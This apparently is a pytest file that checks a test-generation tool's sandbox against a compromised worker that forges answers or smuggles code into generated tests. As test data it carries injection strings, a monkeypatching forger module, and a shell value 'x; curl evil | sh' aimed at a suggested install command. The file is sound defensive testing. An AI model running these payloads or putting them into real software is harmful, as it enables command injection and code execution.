"""Code under test that took its worker over cannot put code into a test file, nor stop us."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hybridgen.domain import Candidate, CheckKind, Module, Observation
from hybridgen.errors import SourceError
from hybridgen.observe.answers import NonsenseError, errors_in, missing_in, outcomes_in, steps_in
from hybridgen.observe.runner import Dropped, Runner, Sandbox

FORGER = """
import json, __main__

FORGED = json.loads({forged!r})

def f(x):
    return x

def answer_to(request, session):
    answer = FORGED.get(request["op"])
    return (json.dumps(answer) + "\\n").encode() if answer else honest(request, session)

honest = __main__.answer_to
__main__.answer_to = answer_to
"""

NOTHING = {"steps": [{"status": "ok"}], "arcs": [], "dirty": False, "error": None}


def check(expression: str, path: str = "", *imports: str, kind: str = "equal") -> dict[str, Any]:
    return {"kind": kind, "path": path, "expression": expression, "imports": list(imports)}


def raised(**changes: Any) -> dict[str, Any]:
    item = {"type_name": "ValueError", "type_import": "", "match": "no"}
    return {**item, "is_deliberate": True, "is_inside": True, **changes}


def first(step: dict[str, Any]) -> Any:
    return steps_in({"steps": [{"status": "ok", **step}]}, 1, ["from mod import np as n"])[0]


@pytest.fixture
def forger(
    open_runner: Callable[..., Runner], candidate: Callable[..., Candidate]
) -> Callable[..., Observation | Dropped]:
    """Runs a candidate in a worker that gives a forged answer."""

    def forger(**answer: Any) -> Observation | Dropped:
        forged = json.dumps({"run": {**NOTHING, **answer}})
        return open_runner(FORGER.format(forged=forged)).run(candidate("?f(1)"))

    return forger


@pytest.mark.parametrize(
    "answer",
    [
        {"steps": []},
        {"steps": None},
        {"steps": "x"},
        {"steps": ["x"]},
        {"steps": [{}]},
        {"steps": [{"status": "ok", "wrap": "print"}]},
        {"steps": [{"status": "ok", "output": 1}]},
        {"steps": [{"status": "ok", "complaints": 1}]},
        {"steps": [{"status": "ok", "checks": [check("1", kind="exec")]}]},
        {"steps": [{"status": "ok", "warnings": ["UserWarning): pass #"]}]},
        {"steps": [{"status": "ok", "changed": [["x or f()", []]]}]},
        {"steps": [{"status": "ok", "changed": [["tmp_path / '..' / 'x'", []]]}]},
        {"steps": [{"status": "ok", "changed": [[["tmp_path"], []]]}]},
        {"steps": [{"status": "raised", "raised": raised(match={})}]},
        {"arcs": [[1, 2, 3]]},
        {"arcs": [[1, 10**30]]},
        {"arcs": "ab"},
        {"error": {}},
        {"effect": "none to speak of"},
    ],
)
def test_a_forged_form_costs_the_candidate(
    forger: Callable[..., Observation | Dropped], answer: dict[str, Any]
) -> None:
    result = forger(**answer)
    assert isinstance(result, Dropped)
    assert result.reason == "died"


def test_an_answer_too_deep_to_be_read_costs_the_candidate(
    open_runner: Callable[..., Runner], candidate: Callable[..., Candidate]
) -> None:
    text = FORGER.format(forged='{"run": 1}').replace(
        "json.dumps(answer)", "'[' * 100_000 + ']' * 100_000"
    )
    result = open_runner(text).run(candidate("?f(1)"))
    assert isinstance(result, Dropped)
    assert result.reason == "died"


def test_words_that_nobody_asked_for_cost_the_worker(
    open_runner: Callable[..., Runner], candidate: Callable[..., Candidate]
) -> None:
    text = """
    import json, os
    def g(x):
        line = {"steps": [{"status": "skipped"}], "arcs": [], "dirty": False, "error": None}
        for number in range(3, 100):
            try:
                os.write(number, json.dumps(line).encode() + b"\\n")
            except OSError:
                pass
        return x
    def f(x):
        return x
    """
    runner = open_runner(text)
    runner.run(candidate("?g(1)"))
    result = runner.run(candidate("?f(2)"))
    if isinstance(result, Dropped):
        result = runner.run(candidate("?f(2)"))
    assert isinstance(result, Observation)
    assert [item.expression for item in result.results[0].checks] == ["2"]


@pytest.mark.parametrize(
    ("expression", "path", "imports"),
    [
        ("1; import os", "", ()),
        ("1\n    import os", "", ()),
        ("1) or (2", "", ()),
        ("1 # more", "", ()),
        ("f(1) or g(2)", "", ()),
        ("wipe('/')", "", ("from mod import wipe",)),
        ("sp.run('x')", "", ("from mod import sp",)),
        ("Path('x').unlink()", "", ("from pathlib import Path",)),
        ("f(1).__class__", "", ()),
        ("[x for x in y]", "", ()),
        ("lambda: 1", "", ()),
        ("f'{wipe()}'", "", ()),
        ("'\u202e abc'", "", ()),
        ("1", " or wipe('/') or f(1)", ()),
        ("1", ".wipe()", ()),
        ("1", ".__class__", ()),
        ("1", "[wipe('/')]", ()),
        ("1", ".relative_to(wipe)", ()),
        ("1", "", ("import os; os.abort()",)),
        ("1", "", ("from mod import wipe as Wipe",)),
        ("1", "", ("from mod import *",)),
        ("-" * 20_000 + "1", "", ()),
        ("(" * 300 + "1" + ")" * 300, "", ()),
    ],
)
def test_what_is_no_plain_value_is_not_asserted(
    expression: str, path: str, imports: tuple[str, ...]
) -> None:
    assert first({"checks": [check(expression, path, *imports)]}).checks == ()


@pytest.mark.parametrize(
    ("expression", "path", "imports"),
    [
        ("(1+2j)", "", ()),
        ("-0.0", ".total", ()),
        ("{'a': [1, (2,)], b'c': {3}}", "['a'][0].args[:60]", ()),
        ("frozenset({1})", ".group()", ()),
        ("'x'", ".relative_to(tmp_path).as_posix()", ()),
        ("[tmp_path, tmp_path / 'a', str(tmp_path / 'b' / 'c')]", "", ()),
        ("Point(x=1, y=Outer.Inner(2))", "", ("from mod import Point", "from mod import Outer")),
        ("Flags.A | Flags.B", "", ("from mod import Flags",)),
        ("datetime.timedelta(days=1)", "", ("import datetime",)),
        ("datetime.datetime(2024, 1, 2, tzinfo=datetime.timezone.utc)", "", ("import datetime",)),
        ("re.compile('a', re.IGNORECASE|re.MULTILINE)", "", ("import re",)),
        ("n.Array([1])", "", ("from mod import np as n",)),
    ],
)
def test_what_a_worker_says_is_believed(
    expression: str, path: str, imports: tuple[str, ...]
) -> None:
    found = first({"checks": [check(expression, path, *imports)]}).checks
    assert [(item.kind, item.path, item.expression, item.imports) for item in found] == [
        (CheckKind.EQUAL, path, expression, imports)
    ]


@pytest.mark.parametrize(
    "changes",
    [
        {"type_name": "ValueError): pass\n    import os #"},
        {"type_name": "print"},
        {"type_name": "Odd", "type_import": "from mod import Other"},
        {"type_name": "Odd", "type_import": "import os; from mod import Odd"},
        {"type_name": "lambda"},
    ],
)
def test_an_exception_that_is_no_class_is_not_expected(changes: dict[str, Any]) -> None:
    assert first({"status": "raised", "raised": raised(**changes)}).status == "skipped"


def test_only_literal_patterns_are_matched() -> None:
    patterns = ["(a+)+$", r"a\d", "a.b", "a\\"]
    found = [first({"status": "raised", "raised": raised(match=p)}).raised.match for p in patterns]
    assert found == [""] * 4
    honest = r"no 'x' \(in é\) a\.b \[1\]"
    assert first({"status": "raised", "raised": raised(match=honest)}).raised.match == honest


@pytest.mark.parametrize("missing", ["x; curl evil | sh", "-r", "x --index-url=http://a", "x y"])
def test_a_missing_module_cannot_lengthen_the_command_we_suggest(missing: str) -> None:
    assert missing_in({"missing": missing}) is None
    assert missing_in({"missing": "yaml.nodes"}) == "yaml"


def test_forged_outcomes_of_pytest_are_refused() -> None:
    with pytest.raises(NonsenseError):
        outcomes_in({"outcomes": [["test_x", "passed"]]})
    with pytest.raises(NonsenseError):
        errors_in({"errors": [["test_x", {}]]})


@pytest.mark.parametrize(
    "load",
    [{"ok": True}, {"ok": "yes"}, {"ok": False, "error": 1}, {"ok": True, "arcs": [["a", "b"]]}],
)
def test_a_forged_import_is_an_error_of_the_module(
    read: Callable[..., Module], sandbox: Sandbox, tmp_path: Path, load: dict[str, Any]
) -> None:
    module = read(f"""
    import os, time
    def f():
        pass
    for number in range(60, 70):
        try:
            os.write(number, {json.dumps(load)!r}.encode() + b"\\n")
        except OSError:
            pass
    time.sleep(60)
    """)
    runner = Runner(module, sandbox, tmp_path)
    with pytest.raises(SourceError, match=r"broke the worker|gives another file"):
        runner.open()
    runner.close()


@pytest.mark.parametrize(
    "logs", ["late", [["WARNING"]], [["WARNING", 1]], [[1, "late"]], [["A", "b", "c"]], {"a": "b"}]
)
def test_logs_of_another_form_cost_the_answer(logs: Any) -> None:
    with pytest.raises(NonsenseError):
        first({"logs": logs})


def test_logs_that_no_test_could_show_are_left_out() -> None:
    assert first({"logs": [["WARNING", "late"]]}).logs == (("WARNING", "late"),)
    assert first({"logs": [["WARNING", "late"], ["INFO", "a\u202eb"]]}).logs == ()
    assert first({"logs": [["WARNING", "a" * 2_000]]}).logs == ()


PLACE = "tmp_path / 'data.txt'"


@pytest.mark.parametrize(
    "asked",
    [
        check("'abc\\n'", ".read_text()"),
        check("'é'", ".read_text(encoding='utf-8')"),
        check("b'\\x00'", ".read_bytes()"),
        check("'abc'", ".read_text()[:60]"),
        check("400", ".read_text()", kind="length"),
        check("True", ".is_dir()", kind="is"),
        check("False", ".exists()", kind="is"),
    ],
)
def test_what_a_file_holds_is_asked_in_a_few_words(asked: dict[str, Any]) -> None:
    [(place, [found])] = first({"changed": [[PLACE, [asked]]]}).changed
    assert (place, found.path, found.expression) == (PLACE, asked["path"], asked["expression"])


@pytest.mark.parametrize(
    ("place", "asked"),
    [
        (PLACE, check("None", ".unlink()", kind="is")),
        (PLACE, check("'x'", ".parent.read_text()")),
        (PLACE, check("'x'", ".read_text(encoding=run())")),
        (PLACE, check("b'x'", ".read_text()")),
        (PLACE, check("Path('x')", ".read_text()")),
        (PLACE, check("'x'", ".read_text()", "import mod")),
        (PLACE, check("'x'", "")),
        (PLACE, check("None", ".exists()", kind="is")),
        ("tmp_path", check("'x'", ".name")),
        ("sorted(p.name for p in tmp_path.iterdir())", check("'x'", ".read_text()")),
        ("items", check("'x'", ".read_text()")),
        ("items", check("True", ".exists()", kind="is")),
    ],
)
def test_nothing_else_is_asked_of_a_file(place: str, asked: dict[str, Any]) -> None:
    assert not any(checks for _, checks in first({"changed": [[place, [asked]]]}).changed)
